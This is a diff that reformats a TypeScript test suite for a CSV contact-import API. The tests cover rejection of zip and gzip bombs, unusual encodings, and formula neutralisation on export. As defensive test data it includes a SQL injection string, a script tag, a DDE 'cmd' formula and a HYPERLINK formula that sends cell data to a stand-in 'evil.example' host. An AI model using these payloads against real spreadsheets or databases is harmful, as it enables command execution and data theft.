@@ -16,7 +16,8 @@ beforeAll(async () => {
   team = await t.tenant();
 });
 
-const upload = (body: Uint8Array | ReadableStream, by = team) => by.api("POST", "/imports?file_name=people.csv", body, { "content-type": "text/csv" });
+const upload = (body: Uint8Array | ReadableStream, by = team) =>
+  by.api("POST", "/imports?file_name=people.csv", body, { "content-type": "text/csv" });
 
 /** Uploads, maps as suggested, runs to the end, and answers with the import. */
 async function run(body: Uint8Array | ReadableStream, by: TestTenant) {
@@ -36,8 +37,16 @@ async function run(body: Uint8Array | ReadableStream, by: TestTenant) {
   );
 }
 
-const emails = async (by: TestTenant) => (await t.sql<{ email: string }[]>`select email from public.contacts where tenant_id = ${by.id} order by email`).map((r) => r.email);
-const kept = async () => (await t.sql<{ n: number }[]>`select (select count(*) from public.imports where tenant_id = ${team.id})::int + (select count(*) from public.import_chunks where tenant_id = ${team.id})::int as n`)[0]!.n;
+const emails = async (by: TestTenant) =>
+  (await t.sql<{ email: string }[]>`select email from public.contacts where tenant_id = ${by.id} order by email`).map(
+    (r) => r.email,
+  );
+const kept = async () =>
+  (
+    await t.sql<
+      { n: number }[]
+    >`select (select count(*) from public.imports where tenant_id = ${team.id})::int + (select count(*) from public.import_chunks where tenant_id = ${team.id})::int as n`
+  )[0]!.n;
 
 /** A zip of one member that unpacks to `megabytes` of nothing. */
 function zipBomb(megabytes: number): Uint8Array {
@@ -63,10 +72,25 @@ describe("refused at the door, and nothing is kept", () => {
     ["an old Excel workbook", () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1), 415, /Excel/],
     ["a gzip bomb", () => new Uint8Array(gzipSync(Buffer.alloc(64 * MEGABYTE))), 415, /gzip/],
     ["a PDF", () => bytes("%PDF-1.7\n"), 415, /PDF/],
-    ["NUL bytes between the text", () => bytes(`Email\n${"a\u0000b\u0000c@example.com\u0000\n".repeat(20)}`), 415, /binary/],
+    [
+      "NUL bytes between the text",
+      () => bytes(`Email\n${"a\u0000b\u0000c@example.com\u0000\n".repeat(20)}`),
+      415,
+      /binary/,
+    ],
     ["a picture", () => Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13), 415, /binary/],
-    ["a million columns", () => bytes(`${"c,".repeat(1_000_000)}c\n${"x,".repeat(1_000_000)}x\n`), 422, /columns|cannot be read/],
-    ["501 columns", () => bytes(`${Array.from({ length: 501 }, (_, i) => `c${i}`).join(",")}\n${"x,".repeat(500)}x\n`), 422, /500/],
+    [
+      "a million columns",
+      () => bytes(`${"c,".repeat(1_000_000)}c\n${"x,".repeat(1_000_000)}x\n`),
+      422,
+      /columns|cannot be read/,
+    ],
+    [
+      "501 columns",
+      () => bytes(`${Array.from({ length: 501 }, (_, i) => `c${i}`).join(",")}\n${"x,".repeat(500)}x\n`),
+      422,
+      /500/,
+    ],
   ])("%s", async (_, file, status, reason) => {
     const before = await kept();
     const answer = await upload(file());
@@ -78,7 +102,10 @@ describe("refused at the door, and nothing is kept", () => {
   test("a single field of 10 MB, and one quote that is never closed, cost no more memory than the file", async () => {
     globalThis.gc?.();
     const before = process.memoryUsage().rss;
-    for (const file of [`Email,Note\nada@example.com,${"x".repeat(10 * MEGABYTE)}\n`, `Email,Note\nada@example.com,"${"x\n".repeat(5 * MEGABYTE)}`]) {
+    for (const file of [
+      `Email,Note\nada@example.com,${"x".repeat(10 * MEGABYTE)}\n`,
+      `Email,Note\nada@example.com,"${"x\n".repeat(5 * MEGABYTE)}`,
+    ]) {
       const team = await t.tenant();
       const answer = await upload(bytes(file), team);
       // Either the beginning already tells, or the import does; both by a reason.
@@ -95,14 +122,42 @@ describe("refused at the door, and nothing is kept", () => {
 
 describe("strange, yet readable", () => {
   test.each<[string, () => Uint8Array, string[]]>([
-    ["a mark of byte order before a quoted header", () => bytes('\ufeff"Email";"Name"\n"a@example.com";"A"\n'), ["a@example.com"]],
-    ["semicolons with commas inside quotes", () => bytes('Email;Name\na@example.com;"Doe; Jane, ""JD"""\n'), ["a@example.com"]],
+    [
+      "a mark of byte order before a quoted header",
+      () => bytes('\ufeff"Email";"Name"\n"a@example.com";"A"\n'),
+      ["a@example.com"],
+    ],
+    [
+      "semicolons with commas inside quotes",
+      () => bytes('Email;Name\na@example.com;"Doe; Jane, ""JD"""\n'),
+      ["a@example.com"],
+    ],
     ["UTF-16 with its mark", () => utf16("Email\tName\r\na@example.com\tÄnne\r\n"), ["a@example.com"]],
-    ["UTF-16 without one", () => utf16("Email,Name\r\na@example.com,Anne\r\nb@example.com,Bert\r\n", false), ["a@example.com", "b@example.com"]],
-    ["line ends of three kinds", () => bytes("Email,Name\r\na@example.com,A\nb@example.com,B\nc@example.com,C\rd@example.com,D\r\n"), ["a@example.com", "b@example.com", "c@example.com", "d@example.com"]],
-    ["Latin-1", () => Uint8Array.from([...Buffer.from("Email,Name\na@example.com,J\xf6rg\n", "latin1")]), ["a@example.com"]],
-    ["a stray quote in the middle of a field", () => bytes('Email,Name\na@example.com,5" nail\nb@example.com,B\n'), ["a@example.com", "b@example.com"]],
-    ["headers named like an object's own parts", () => bytes("Email,__proto__,constructor,toString\na@example.com,x,y,z\n"), ["a@example.com"]],
+    [
+      "UTF-16 without one",
+      () => utf16("Email,Name\r\na@example.com,Anne\r\nb@example.com,Bert\r\n", false),
+      ["a@example.com", "b@example.com"],
+    ],
+    [
+      "line ends of three kinds",
+      () => bytes("Email,Name\r\na@example.com,A\nb@example.com,B\nc@example.com,C\rd@example.com,D\r\n"),
+      ["a@example.com", "b@example.com", "c@example.com", "d@example.com"],
+    ],
+    [
+      "Latin-1",
+      () => Uint8Array.from([...Buffer.from("Email,Name\na@example.com,J\xf6rg\n", "latin1")]),
+      ["a@example.com"],
+    ],
+    [
+      "a stray quote in the middle of a field",
+      () => bytes('Email,Name\na@example.com,5" nail\nb@example.com,B\n'),
+      ["a@example.com", "b@example.com"],
+    ],
+    [
+      "headers named like an object's own parts",
+      () => bytes("Email,__proto__,constructor,toString\na@example.com,x,y,z\n"),
+      ["a@example.com"],
+    ],
   ])("%s", async (_, file, expected) => {
     const own = await t.tenant();
     const ended = await run(file(), own);
@@ -114,9 +169,15 @@ describe("strange, yet readable", () => {
   test("rows with SQL, HTML and control characters are text, refused rows say why and in no other language", async () => {
     const own = await t.tenant();
     const sql = "'); drop table public.contacts; --";
-    const ended = await run(bytes(`Email,First name,Company\na@example.com,"${sql}",<b>Co</b>\nb@example.com,"a\u0001b\u007f",x\nnot-an-address,C,\n,"<script>alert(1)</script>",\n`), own);
+    const ended = await run(
+      bytes(
+        `Email,First name,Company\na@example.com,"${sql}",<b>Co</b>\nb@example.com,"a\u0001b\u007f",x\nnot-an-address,C,\n,"<script>alert(1)</script>",\n`,
+      ),
+      own,
+    );
     expect(ended.status).toBe("done");
-    const rows = await t.sql`select first_name from public.contacts where tenant_id = ${own.id} and email = 'a@example.com'`;
+    const rows =
+      await t.sql`select first_name from public.contacts where tenant_id = ${own.id} and email = 'a@example.com'`;
     expect(rows[0]!.first_name).toBe(sql);
     const errors = await own.api("GET", `/imports/${ended.id}/errors.csv`);
     expect(errors.headers.get("content-type")).toContain("text/csv");
@@ -128,9 +189,24 @@ describe("strange, yet readable", () => {
 
 test("what a spreadsheet would run is written so that it does not, in the export and in the rows that were refused", async () => {
   const own = await t.tenant();
-  const formulas = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("https://evil.example?"&A1)'];
+  const formulas = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("https://evil.example?"&A1)',
+  ];
   for (const [i, formula] of formulas.entries()) {
-    const made = await own.api("POST", "/contacts", { email: `f${i}@example.com`, first_name: formula, title: formula, company_name: `${formula}${i}`, tags: [formula.trim()], pipeline_stage: formula.trim() });
+    const made = await own.api("POST", "/contacts", {
+      email: `f${i}@example.com`,
+      first_name: formula,
+      title: formula,
+      company_name: `${formula}${i}`,
+      tags: [formula.trim()],
+      pipeline_stage: formula.trim(),
+    });
     expect(made.status, JSON.stringify(made.body)).toBe(201);
   }
   const file = `Email,First name\n${formulas.map((f) => `"${f.replaceAll('"', '""')}","${f.replaceAll('"', '""')}"`).join("\n")}\n`;
@@ -140,7 +216,10 @@ test("what a spreadsheet would run is written so that it does not, in the export
     const { body } = await own.api("GET", path);
     const cells = (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat();
     expect(cells.filter((c) => /^'[=+\-@\t\r]/.test(c)).length, path).toBeGreaterThan(formulas.length);
-    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), path).toEqual([]);
+    expect(
+      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+      path,
+    ).toEqual([]);
   }
 });
 
